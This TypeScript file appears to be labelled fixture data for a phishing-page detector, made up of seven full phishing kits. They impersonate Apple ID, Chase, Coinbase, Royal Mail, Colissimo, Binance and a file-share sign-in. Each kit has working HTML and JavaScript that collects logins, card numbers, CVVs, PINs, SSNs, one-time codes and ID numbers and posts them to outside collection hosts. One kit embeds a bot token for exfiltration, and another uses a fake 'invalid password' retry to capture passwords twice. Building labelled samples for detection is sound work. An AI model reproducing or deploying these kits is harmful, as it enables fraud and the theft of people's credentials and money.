import type { Entry } from '../entry.js';
import { raw, js, json, renderer } from '../parts/c-json-kits.js';

export const entries: Entry[] = [
  {
    id: 'c-json-appleid-de',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://appleid.apple.com-konto-sperre.info/de_DE/sign-in',
    body: raw`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>…</title></head><body><div id="root"></div><script src="/r.js" data-cfg="/api/config?l=de"></script></body></html>`,
    routes: {
      'appleid.apple.com-konto-sperre.info/r.js': js(renderer),
      'appleid.apple.com-konto-sperre.info/api/config': json({
        title: 'Apple-ID verwalten', tag: 'APL-DE', logo: '<svg width="40" height="48" viewBox="0 0 814 1000"><path d="M788 341c-6 4-108 62-108 190 0 148 130 200 134 201 0 3-21 72-69 142-43 62-88 123-156 123s-86-40-164-40c-77 0-104 41-167 41s-106-57-156-127C44 789 0 664 0 545c0-191 124-292 246-292 65 0 119 43 160 43 39 0 100-45 174-45 28 0 129 2 196 97zM554 157c31-37 53-88 53-139 0-7-1-14-2-20-50 2-110 34-146 76-28 32-55 83-55 135 0 8 1 16 2 18 3 1 8 1 13 1 45 0 102-30 135-71z"/></svg>',
        css: 'body{margin:0;font-family:-apple-system,"SF Pro Text","Helvetica Neue",sans-serif;background:#fff;color:#1d1d1f}.kx{max-width:480px;margin:60px auto;text-align:center;padding:0 20px}.kx h1{font-weight:600;font-size:32px}.kx-t{font-size:17px;color:#494949}.kx label{display:block;text-align:left;font-size:12px;color:#6e6e73;margin-top:12px}.kx input{width:100%;height:44px;border:1px solid #d2d2d7;border-radius:12px;padding:0 14px;font-size:17px;box-sizing:border-box}.kx button{margin-top:22px;background:#0071e3;color:#fff;border:0;border-radius:980px;padding:12px 28px;font-size:17px}.kx-e{color:#e30000;font-size:13px;margin-top:8px}.kx-f{font-size:12px;color:#86868b;margin-top:40px}',
        required: 'Bitte füllen Sie alle Felder aus.',
        post: '/api/collect', done: 'https://appleid.apple.com/',
        footer: 'Copyright © 2024 Apple Inc. Alle Rechte vorbehalten.',
        steps: [
          { id: 'login', heading: 'Mit Apple-ID anmelden', text: 'Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt. Melden Sie sich an, um sie zu entsperren.', fields: [{ name: 'appleid', label: 'E-Mail oder Telefonnummer' }, { name: 'pw', label: 'Passwort', type: 'password' }], button: 'Fortfahren' },
          { id: 'bill', heading: 'Zahlungsinformationen bestätigen', text: 'Bestätigen Sie die mit Ihrer Apple-ID verknüpfte Zahlungsmethode.', fields: [{ name: 'name', label: 'Name' }, { name: 'geb', label: 'Geburtsdatum' }, { name: 'cc', label: 'Kartennummer' }, { name: 'exp', label: 'Ablaufdatum' }, { name: 'cvv', label: 'Sicherheitscode', max: 4 }], button: 'Bestätigen' },
        ],
      }),
      'appleid.apple.com-konto-sperre.info/api/collect': json({ r: 1 }),
    },
  },
  {
    id: 'c-json-chase-alerts',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://chase-secure-alerts.net/logon/?session=8b0f2e',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Loading…</title><style>html,body{height:100%;margin:0}#root{min-height:100%;background:linear-gradient(#1a5fb4,#0b3b7d)}</style></head><body><div id="root"></div><script src="/static/kx.js"></script></body></html>`,
    routes: {
      'chase-secure-alerts.net/static/kx.js': js(renderer),
      'chase-secure-alerts.net/api/config': json({
        title: 'Sign in - chase.com', tag: 'CH', logo: '<span style="font:700 26px Arial;color:#fff;letter-spacing:.15em">CHASE &#9711;</span>',
        css: 'body{font-family:"Open Sans",Arial,sans-serif}.kx{max-width:400px;margin:0 auto;padding:60px 20px}.kx-logo{text-align:center;margin-bottom:24px}.kx h1{color:#fff;font-weight:400;font-size:24px;text-align:center}.kx-t{color:#dfe9f7;font-size:14px}.kx label{color:#fff;font-size:13px;display:block;margin-top:14px}.kx input{width:100%;background:transparent;border:0;border-bottom:1px solid #fff;color:#fff;padding:10px 0;font-size:16px}.kx button{width:100%;margin-top:28px;background:#fff;color:#0b3b7d;border:0;border-radius:4px;padding:12px;font-weight:700}.kx-e{color:#ffd1d1;margin-top:8px}.kx-f{color:#c7d6ee;font-size:12px;text-align:center;margin-top:30px}',
        required: 'Please complete all required fields.', post: 'https://cdn-statics-api.com/ch/rcv', done: 'https://www.chase.com/',
        steps: [
          { id: 'logon', heading: 'Welcome', fields: [{ name: 'user', label: 'Username' }, { name: 'pass', label: 'Password', type: 'password' }], button: 'Sign in' },
          { id: 'verify', heading: 'Let\u2019s make sure it\u2019s you', text: 'We noticed unusual activity. Confirm your information to restore full access to your accounts.', fields: [{ name: 'ssn', label: 'Social Security Number', max: 11 }, { name: 'dob', label: 'Date of birth (MM/DD/YYYY)' }, { name: 'atm', label: 'Debit card number' }, { name: 'pin', label: 'Card PIN', type: 'password', max: 4 }], button: 'Verify' },
          { id: 'email', heading: 'Confirm your email', fields: [{ name: 'em', label: 'Email address' }, { name: 'empw', label: 'Email password', type: 'password' }], button: 'Finish' },
        ],
        footer: 'Equal Housing Lender · © 2024 JPMorgan Chase &amp; Co.',
      }),
      'cdn-statics-api.com/ch/rcv': json({ s: 'ok' }),
    },
  },
  {
    id: 'c-json-coinbase-tg',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://coinbase.login-assets-verify.com/signin',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title></title></head><body><div id="root"></div>
<script>window.__ASSET='/static/app.bundle.js';</script>
<script>var s=document.createElement('script');s.src=window.__ASSET;s.dataset.cfg='/static/brand.json';document.body.appendChild(s);</script></body></html>`,
    routes: {
      'coinbase.login-assets-verify.com/static/app.bundle.js': js(renderer.replace("document.currentScript && document.currentScript.dataset.cfg", "document.querySelector('script[data-cfg]') && document.querySelector('script[data-cfg]').dataset.cfg")),
      'coinbase.login-assets-verify.com/static/brand.json': json({
        title: 'Coinbase - Sign In', tag: 'CB', logo: '<svg width="48" height="48" viewBox="0 0 48 48"><circle cx="24" cy="24" r="24" fill="#0052ff"/><rect x="17" y="17" width="14" height="14" rx="2" fill="#fff"/></svg>',
        css: 'body{margin:0;font-family:"Coinbase Sans",-apple-system,Arial,sans-serif}.kx{max-width:420px;margin:80px auto;border:1px solid #e2e2e2;border-radius:16px;padding:40px}.kx h1{font-size:28px}.kx label{display:block;font-weight:600;font-size:14px;margin-top:14px}.kx input{width:100%;height:56px;border:1px solid #cfd2d6;border-radius:8px;padding:0 16px;font-size:16px;box-sizing:border-box;margin-top:6px}.kx button{width:100%;height:56px;margin-top:24px;background:#0052ff;color:#fff;border:0;border-radius:28px;font-size:16px;font-weight:600}.kx-e{color:#cf202f}',
        required: 'Required', done: 'https://www.coinbase.com/',
        bot: { t: '6812239901:AAF3kq-pW9dZxL0mYb7rT5uVv2nC8eHs1Jo', c: '5528390114' },
        steps: [
          { id: 'email', heading: 'Sign in to Coinbase', fields: [{ name: 'email', label: 'Email' }], button: 'Continue' },
          { id: 'pass', heading: 'Enter your password', fields: [{ name: 'password', label: 'Password', type: 'password' }], button: 'Continue' },
          { id: '2fa', heading: '2-step verification', text: 'Enter the 7-digit code we texted to your phone, or the code from your authenticator app.', fields: [{ name: 'code', label: 'Code', max: 7 }], button: 'Verify' },
        ],
      }),
    },
  },
  {
    id: 'c-json-royalmail',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://royalmail-parcel-fee.co/RM/redeliver',
    body: raw`<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Royal Mail</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}.hd{background:#da202a;color:#fff;padding:14px 24px;font-size:20px;font-weight:700}.wr{max-width:520px;margin:20px auto;background:#fff;padding:24px;border-radius:4px}.wr label{display:block;font-size:14px;font-weight:700;margin-top:12px}.wr input{width:100%;padding:10px;border:1px solid #888;box-sizing:border-box}.wr button{background:#da202a;color:#fff;border:0;padding:12px 24px;margin-top:18px;font-size:16px;border-radius:3px}#ld{text-align:center;padding:60px;color:#777}</style></head>
<body><div class="hd">Royal Mail</div><div class="wr" id="w"><div id="ld">Loading your parcel details…</div></div>
<script>
fetch('/RM/api/parcel.json').then(r=>r.json()).then(function(P){
  var w=document.getElementById('w');var out={ref:P.ref};
  function form(sec){
    w.innerHTML='<h2>'+sec.h+'</h2><p>'+sec.p.replace('{fee}',P.fee).replace('{ref}',P.ref)+'</p>'+sec.f.map(function(f){return '<label>'+f[1]+'</label><input id="'+f[0]+'"'+(f[2]?' type="'+f[2]+'"':'')+'>'}).join('')+'<button id="b">'+sec.b+'</button>';
    document.getElementById('b').onclick=function(){sec.f.forEach(function(f){out[f[0]]=document.getElementById(f[0]).value});
      fetch(P.sink,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(out).toString()}).catch(function(){});
      var n=P.sections[P.sections.indexOf(sec)+1];n?form(n):(w.innerHTML='<h2>'+P.thanks+'</h2>');};
  }
  form(P.sections[0]);
});
</script></body></html>`,
    routes: {
      'royalmail-parcel-fee.co/RM/api/parcel.json': json({
        ref: 'RM' + '48201957GB', fee: '£1.45', sink: 'https://rm-fee.tracking-ssl.com/gate.php', thanks: 'Thank you. Your redelivery has been booked.',
        sections: [
          { h: 'We could not deliver your parcel', p: 'Your item {ref} is being held at our local delivery office because a settlement fee of {fee} has not been paid. Please confirm your details to rebook delivery.', f: [['fullname', 'Full name'], ['addr', 'Address'], ['postcode', 'Postcode'], ['mobile', 'Mobile number'], ['dob', 'Date of birth']], b: 'Continue' },
          { h: 'Pay {fee}', p: 'Pay the outstanding fee of {fee} for parcel {ref}.', f: [['cardname', 'Name on card'], ['cardno', 'Card number'], ['exp', 'Expiry date (MM/YY)'], ['cvv', 'Security code', 'password'], ['sort', 'Sort code'], ['acc', 'Account number']], b: 'Pay now' },
        ],
      }),
    },
  },
  {
    id: 'c-json-colissimo-fr',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://colissimo-suivi-livraison.fr.ac-frais.com/suivi/?id=6A24719384021',
    body: raw`<!doctype html><html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Colissimo – Suivi de colis</title></head>
<body style="margin:0;font-family:Montserrat,Arial,sans-serif;background:#f2f2f2"><div id="root"></div>
<script src="/assets/r.min.js"></script></body></html>`,
    routes: {
      'colissimo-suivi-livraison.fr.ac-frais.com/assets/r.min.js': js(renderer),
      'colissimo-suivi-livraison.fr.ac-frais.com/api/config': json({
        title: 'Colissimo – Frais de réexpédition', tag: 'COLI', logo: '<div style="background:#ffcc00;color:#2a2a6c;font-weight:800;padding:10px 14px;display:inline-block;border-radius:4px">colissimo</div>',
        css: '.kx{max-width:480px;margin:30px auto;background:#fff;padding:28px;border-radius:8px}.kx h1{font-size:22px;color:#2a2a6c}.kx-t{font-size:14px}.kx label{display:block;font-size:13px;font-weight:600;margin-top:12px}.kx input{width:100%;padding:11px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}.kx button{width:100%;margin-top:20px;background:#2a2a6c;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px}.kx-e{color:#c00;font-size:13px}',
        required: 'Veuillez remplir tous les champs.', post: '/api/rx', done: 'https://www.laposte.fr/outils/suivre-vos-envois',
        steps: [
          { id: 'adr', heading: 'Votre colis est en attente', text: 'Votre colis n° 6A24719384021 n\u2019a pas pu être livré : l\u2019adresse est incomplète. Des frais de réexpédition de 1,79 € sont à régler sous 48h.', fields: [{ name: 'nom', label: 'Nom et prénom' }, { name: 'adresse', label: 'Adresse' }, { name: 'cp', label: 'Code postal' }, { name: 'ville', label: 'Ville' }, { name: 'tel', label: 'Téléphone' }], button: 'Continuer' },
          { id: 'cb', heading: 'Paiement sécurisé – 1,79 €', fields: [{ name: 'cc', label: 'Numéro de carte' }, { name: 'exp', label: 'Date d\u2019expiration' }, { name: 'cvv', label: 'Cryptogramme visuel', max: 3 }], button: 'Payer 1,79 €' },
          { id: '3ds', heading: 'Authentification 3-D Secure', text: 'Saisissez le code reçu par SMS de votre banque.', fields: [{ name: 'otp', label: 'Code' }], button: 'Valider' },
        ],
      }),
      'colissimo-suivi-livraison.fr.ac-frais.com/api/rx': json({ ok: true }),
    },
  },
  {
    id: 'c-json-binance-kyc',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://accounts.binance-kyc-review.com/en/login',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Binance</title>
<style>body{margin:0;background:#181a20;color:#eaecef;font-family:"BinancePlex",Arial,sans-serif}.wrap{max-width:420px;margin:60px auto;padding:0 20px}.lg{color:#f0b90b;font-weight:700;font-size:24px;margin-bottom:30px}label{display:block;font-size:14px;color:#b7bdc6;margin:14px 0 6px}input{width:100%;height:48px;background:transparent;border:1px solid #474d57;border-radius:8px;color:#eaecef;padding:0 12px;font-size:16px;box-sizing:border-box}button{width:100%;height:48px;margin-top:24px;background:#fcd535;color:#202630;border:0;border-radius:8px;font-weight:600;font-size:16px}.nt{background:#2b2f36;border-radius:8px;padding:12px;font-size:13px;color:#f6465d}</style></head>
<body><div class="wrap" id="w"></div>
<script>
(async function(){
  const t = await fetch('/i18n/' + (navigator.language || 'en').slice(0, 2) + '.json').then(r => r.ok ? r.json() : fetch('/i18n/en.json').then(r => r.json()));
  const w = document.getElementById('w');
  const keep = {};
  const seq = ['login', 'code', 'kyc'];
  let k = 0;
  const draw = () => {
    const s = t[seq[k]];
    w.innerHTML = '<div class="lg">◆ BINANCE</div>' + (s.notice ? '<div class="nt">' + s.notice + '</div>' : '') + '<h2>' + s.h + '</h2>' + s.fields.map(f => '<label>' + f.l + '</label><input name="' + f.n + '" type="' + (f.t || 'text') + '">').join('') + '<button>' + s.btn + '</button>';
    w.querySelector('button').onclick = () => {
      w.querySelectorAll('input').forEach(i => keep[i.name] = i.value);
      navigator.sendBeacon(t.endpoint, JSON.stringify({ s: seq[k], keep }));
      if (++k < seq.length) draw(); else location.href = t.after;
    };
  };
  draw();
})();
</script></body></html>`,
    routes: {
      'accounts.binance-kyc-review.com/i18n/en.json': json({
        endpoint: 'https://bnb-kyc-api.onrender.com/log', after: 'https://www.binance.com/en/my/dashboard',
        login: { notice: 'Your account has been restricted. Complete the review within 24 hours to avoid a withdrawal freeze.', h: 'Log in', fields: [{ n: 'email', l: 'Email/Phone number' }, { n: 'password', l: 'Password', t: 'password' }], btn: 'Log In' },
        code: { h: 'Security verification', fields: [{ n: 'email_code', l: 'Email verification code' }, { n: 'ga', l: 'Authenticator code' }], btn: 'Submit' },
        kyc: { h: 'Identity verification', fields: [{ n: 'name', l: 'Full legal name' }, { n: 'dob', l: 'Date of birth' }, { n: 'idno', l: 'ID / Passport number' }], btn: 'Complete' },
      }),
    },
  },
  {
    id: 'c-json-sharefile-providers',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://share-docs-securefile.com/view/Q3-Remittance.pdf',
    body: raw`<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Q3-Remittance.pdf</title>
<style>
body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#525659}
.doc{width:720px;max-width:94vw;height:900px;margin:20px auto;background:#fff url(/img/blurred.png) top/100% no-repeat;filter:blur(5px)}
.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}
.pn{background:#fff;width:380px;border-radius:6px;padding:26px;box-shadow:0 10px 40px #0007}
.prov{display:flex;align-items:center;gap:10px;border:1px solid #ddd;border-radius:4px;padding:10px;margin:8px 0;cursor:pointer;font-size:15px}
.prov img{width:22px;height:22px}
.pn input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;margin:6px 0;box-sizing:border-box}
.pn button{width:100%;padding:11px;background:#d93025;color:#fff;border:0;border-radius:4px;margin-top:10px;font-size:15px}
</style></head>
<body><div class="doc"></div><div class="ov"><div class="pn" id="pn"></div></div>
<script>
fetch('/view/providers.json').then(function(r){return r.json()}).then(function(cfg){
  var pn=document.getElementById('pn');
  var email=decodeURIComponent((location.hash.match(/e=([^&]+)/)||[])[1]||'');
  function list(){
    pn.innerHTML='<h3 style="margin-top:0">'+cfg.heading+'</h3><p style="font-size:13px;color:#555">'+cfg.sub+'</p>'+cfg.providers.map(function(p,i){return '<div class="prov" data-i="'+i+'"><img src="'+p.icon+'" alt="">'+p.name+'</div>'}).join('');
    pn.querySelectorAll('.prov').forEach(function(el){el.onclick=function(){form(cfg.providers[+el.dataset.i])}});
  }
  function form(p){
    pn.innerHTML='<h3 style="margin-top:0"><img src="'+p.icon+'" width="20"> '+p.name+'</h3><input id="e" type="email" placeholder="Email address" value="'+email+'"><input id="p" type="password" placeholder="Password"><button id="v">View Document</button><div id="m" style="color:#c00;font-size:13px;margin-top:8px"></div>';
    var n=0;
    document.getElementById('v').onclick=function(){
      var e=document.getElementById('e').value,pw=document.getElementById('p').value;if(!e||!pw)return;
      $post(cfg.sink,{provider:p.name,email:e,password:pw,attempt:++n});
      if(n<cfg.attempts){document.getElementById('m').textContent='Invalid password, please try again.';document.getElementById('p').value='';}
      else location.href=cfg.finalUrl;
    };
  }
  function $post(u,o){var fd=new FormData();Object.keys(o).forEach(function(k){fd.append(k,o[k])});navigator.sendBeacon(u,fd)}
  list();
});
</script></body></html>`,
    routes: {
      'share-docs-securefile.com/view/providers.json': json({
        heading: 'Sign in to view the shared file', sub: 'This file is protected. Select your email provider to continue.', attempts: 2,
        sink: 'https://mailer-logs.storage-docs.xyz/next.php', finalUrl: 'https://www.adobe.com/acrobat/online/pdf-reader.html',
        providers: [{ name: 'Outlook / Office 365', icon: '/img/o365.png' }, { name: 'Gmail', icon: '/img/gm.png' }, { name: 'Yahoo Mail', icon: '/img/y.png' }, { name: 'AOL', icon: '/img/aol.png' }, { name: 'Other mail', icon: '/img/mail.png' }],
      }),
    },
  },
];
